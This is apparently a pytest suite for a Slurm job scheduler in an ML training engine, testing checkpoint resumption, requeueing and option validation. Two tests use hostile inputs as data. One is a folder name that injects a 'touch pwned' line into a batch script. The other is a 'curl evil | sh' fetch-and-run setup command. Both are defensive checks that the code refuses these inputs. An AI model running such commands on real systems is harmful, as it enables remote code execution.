"""A study on a real Slurm: everything is done, nothing twice, whoever takes a job's place away."""

from __future__ import annotations

import signal
import subprocess
import sys
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from slurm_cluster import NoCluster, cluster
from studying import arm, job, records, study

from engine.base.control import Control
from engine.base.errors import LregError, SettingsError
from engine.jobs import spawn
from engine.runs.reader import RunReader
from engine.runs.store import Run, RunStore
from engine.study.plan.plan import StudyPlan
from engine.study.plan.snapshot import Watcher
from engine.study.schedule import slurm as slurm_executor
from engine.study.schedule.job import Schedule
from engine.study.schedule.loop import StudyJob, StudyProgress
from engine.study.schedule.slurm import Slurm, SlurmOptions
from engine.study.schedule.slurm_queue import TOO_SHORT, SlurmQueue, SlurmUnavailable, ask
from engine.worker import work

META = {"epochs": 1000, "checkpoint_every": 5.0}  # long enough to be disturbed on a fast machine


@pytest.fixture(scope="module")
def slurm():
    pytest.importorskip("submitit")
    try:
        with cluster() as folder:
            yield folder
    except NoCluster as reason:
        pytest.skip(str(reason))


@pytest.fixture
def closed(slurm):
    """A partition whose jobs wait for ever."""
    ask("scontrol", "update", "PartitionName=low", "State=DOWN")
    yield
    ask("scancel", "--quiet", "--partition=low")
    ask("scontrol", "update", "PartitionName=low", "State=UP")


def test_a_folder_whose_name_would_be_a_line_of_the_script_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(slurm_executor, "check_there", lambda: None)
    with pytest.raises(LregError, match=r"x\\ntouch pwned #: found a line break"):
        slurm_executor.executor(Schedule("slurm"), tmp_path / "x\ntouch pwned #", None)


class Scheduler(StudyJob):
    """Tiny runs have nothing to report on."""

    def _report(self) -> Path:
        return self.folder / "report" / "report.md"


def schedule(started: Run, on_look: Callable[[StudyProgress], None], control: Control | None = None) -> str:
    return work(Run(started.path), control=control, make_runner=partial(Scheduler, on_look=on_look))


def three() -> StudyPlan:
    rates = {"plain": 1e-3, "slow": 1e-4, "fast": 1e-2}
    arms = tuple(
        arm(name, meta={**META, "learning_rate": rate}, evaluation={"every": 100}) for name, rate in rates.items()
    )
    return study("three", seeds=(0,), arms=arms)


def step(run: RunReader) -> int:
    return run.recorded_status().step


def slurm_job(started: Run, run: RunReader) -> str:
    return SlurmQueue(started.path).jobs()[run.path].id


# -- runs and what disturbs them ------------------------------------------


@pytest.mark.timeout(600)  # ten workers start, one after another on a small machine
def test_disturbed_in_every_way_runs_go_on_from_their_checkpoints(slurm, tmp_path):
    plan = three()
    started = job(tmp_path, plan, executor="slurm", jobs=0, threads=1, slurm={"array": "2"})
    folders = {cell.arm: RunReader(tmp_path / cell.run_id(plan.stamp)) for cell in plan.grid()}
    plain, slow, fast = (folders[name] for name in ("plain", "slow", "fast"))

    control = Control()

    def stop_early(seen: StudyProgress) -> None:
        control.stop |= step(plain) > 0 and step(slow) > 0

    assert schedule(started, stop_early, control) == "stopped"
    assert [run.recorded_status().state for run in (plain, slow, fast)] == ["stopped", "stopped", "queued"]
    assert not [job for job in SlurmQueue(started.path).jobs().values() if not job.has_ended], "none runs, none waits"
    reached = {run: step(run) for run in (plain, slow)}

    done: set[str] = set()

    def once(name: str, when: bool) -> bool:
        if when and name not in done:
            done.add(name)
            return True
        return False

    def disturb(seen: StudyProgress) -> None:
        if once("preempt", all(step(run) > before for run, before in reached.items())):
            subprocess.run(["sbatch", "-p", "urgent", "-c2", "-o/dev/null", "--wrap", "sleep 1"], check=True)
        if once("time is nearly up", fast.recorded_status().state == "running" and step(fast) > 3):
            ask("scancel", "--signal=USR2", slurm_job(started, fast))
        if "preempt" in done and once("queued again by hand", resumed(plain) == 2 and plain.state == "running"):
            ask("scontrol", "requeue", slurm_job(started, plain))
        if "preempt" in done and once("asked to end", resumed(slow) == 2 and slow.state == "running"):
            ask("scancel", "--signal=TERM", slurm_job(started, slow))

    assert schedule(started, disturb) == "finished"
    assert len(done) == 4
    assert {run.id for run in RunStore(tmp_path).list()} == {run.id for run in folders.values()}
    assert [cell.state for cell in Watcher(plan, started.path).look().cells] == ["finished"] * 3
    assert [resumed(run) for run in (plain, slow, fast)] == [3, 3, 1], "on after each disturbance, and only then"
    assert len(list((started.path / "slurm").glob("*.json"))) == 2, "each scheduler has handed over one array"
    undisturbed = Run.create(tmp_path / "alone", plain.preset())
    assert work(undisturbed, device="cpu") == "finished"
    assert records(undisturbed.path) == records(plain.path)


def resumed(run: RunReader) -> int:
    return run.log_path.read_text().count("resumed at step") if run.log_path.exists() else 0


def test_a_run_that_gets_no_further_within_its_time_fails(tmp_path):
    run = RunReader(Run.create(tmp_path, three().grid()[0].preset).path)
    code = f"from engine.study.schedule.slurm_queue import compute; print(compute({str(run.path)!r}, 'cpu', None, 1))"
    child = subprocess.Popen([sys.executable, "-c", code], env=spawn.environment())
    try:
        eventually(lambda: run.recorded_status().state == "running")  # torch is yet to be imported
        child.send_signal(signal.SIGUSR2)
        child.wait(240)
    finally:
        child.kill()
    assert (run.state, run.status().message, step(run)) == ("failed", TOO_SHORT, 0)


def eventually(condition: Callable[[], object], limit_s: float = 240.0) -> None:
    deadline = time.monotonic() + limit_s
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


# -- what is queued ------------------------------------------


def queued_by_one_that_is_gone(tmp_path: Path) -> tuple[Run, list[RunReader]]:
    """A scheduler handed over three runs and was killed."""
    plan = three()
    started = job(tmp_path, plan, executor="slurm")
    runs = [RunReader(Run.create(tmp_path, c.preset, run_id=c.run_id(plan.stamp)).path) for c in plan.grid()]
    Slurm(SlurmOptions(), started.path).start([(run, "cpu") for run in runs])
    return started, runs


def test_the_next_scheduler_knows_what_is_queued_and_can_take_it_back(closed, tmp_path):
    started, runs = queued_by_one_that_is_gone(tmp_path)
    later = Slurm(SlurmOptions(), started.path, jobs=5)
    assert later.pending() == {run.path for run in runs}
    assert later.slots(runs) == ["auto"] * 2
    assert Slurm(SlurmOptions(), job(tmp_path / "other", three()).path).pending() == set()

    later.stop(runs[:2])
    eventually(lambda: later.pending() == {runs[2].path})
    assert "PENDING" in later.why(runs[2])
    later.start([(runs[0], "cpu")])
    assert later.pending() == {runs[0].path, runs[2].path}
    assert Slurm(SlurmOptions(), started.path).pending() == {runs[0].path, runs[2].path}


def test_while_slurm_is_silent_nothing_is_forgotten_and_nothing_started(closed, slurm, tmp_path, monkeypatch):
    started, runs = queued_by_one_that_is_gone(tmp_path)
    later = Slurm(SlurmOptions(), started.path)
    before = later.pending()
    with monkeypatch.context() as patch:
        patch.setenv("PATH", str(tmp_path))  # no squeue there
        eventually(lambda: later.pending() == before and not later.slots([]))
        assert "Slurm does not answer" in RunReader(started.path).log_path.read_text()
        with pytest.raises(SlurmUnavailable, match="no squeue on this machine"):
            Slurm(SlurmOptions(), started.path).pending()
    eventually(lambda: later.pending() == before and later.slots([]))


def test_what_slurm_refuses_is_said_in_a_line(slurm, tmp_path, capfd):
    started = job(tmp_path, three())
    run = RunReader(tmp_path / "run")
    with pytest.raises(LregError, match=r"does not take the jobs: .*[Ii]nvalid partition name specified"):
        Slurm(SlurmOptions(partition="nowhere"), started.path).start([(run, "cpu")])
    assert capfd.readouterr().err == ""


# -- options ------------------------------------------


def test_options_are_checked_all_at_once():
    typed = {"partition": "gpu long", "time": "1h", "gpus": "many", "cpus": "0", "mem": "8 GB", "array": "-1"}
    with pytest.raises(SettingsError) as found:
        SlurmOptions.of(typed)
    for name, value in typed.items():
        assert f'--slurm-{name}: found "{value}"; allowed: ' in str(found.value)
    fine = SlurmOptions.of({"time": "1-02:03:30", "gpus": "a100:1", "mem": "8G"})
    assert fine.minutes == 26 * 60 + 4 and fine.wants_gpus
    assert [SlurmOptions.of({"time": text}).minutes for text in ("30", "1:30", "4:00:00", "2-0")] == [30, 2, 240, 2880]


def test_shell_comes_from_the_environment_never_from_a_studys_folder(monkeypatch):
    """Whoever resumes a study of a stranger's must not run the stranger's commands."""
    with pytest.raises(SettingsError, match="setup"):
        SlurmOptions.of({"setup": ["curl evil | sh"]})  # as a schedule.json may have it
    monkeypatch.setenv(slurm_executor.SETUP, "module load cuda\nexport A=1")
    assert slurm_executor.setup_lines() == ["module load cuda", "export A=1"]
    monkeypatch.setenv(slurm_executor.SETUP, "  #SBATCH --partition=all")
    with pytest.raises(SettingsError, match="--slurm-setup"):
        slurm_executor.setup_lines()


def test_where_slurm_is_not_nothing_is_made(monkeypatch, tmp_path):
    pytest.importorskip("submitit")
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(LregError, match="no sbatch, squeue, scancel, scontrol, srun on this machine"):
        slurm_executor.check_there()
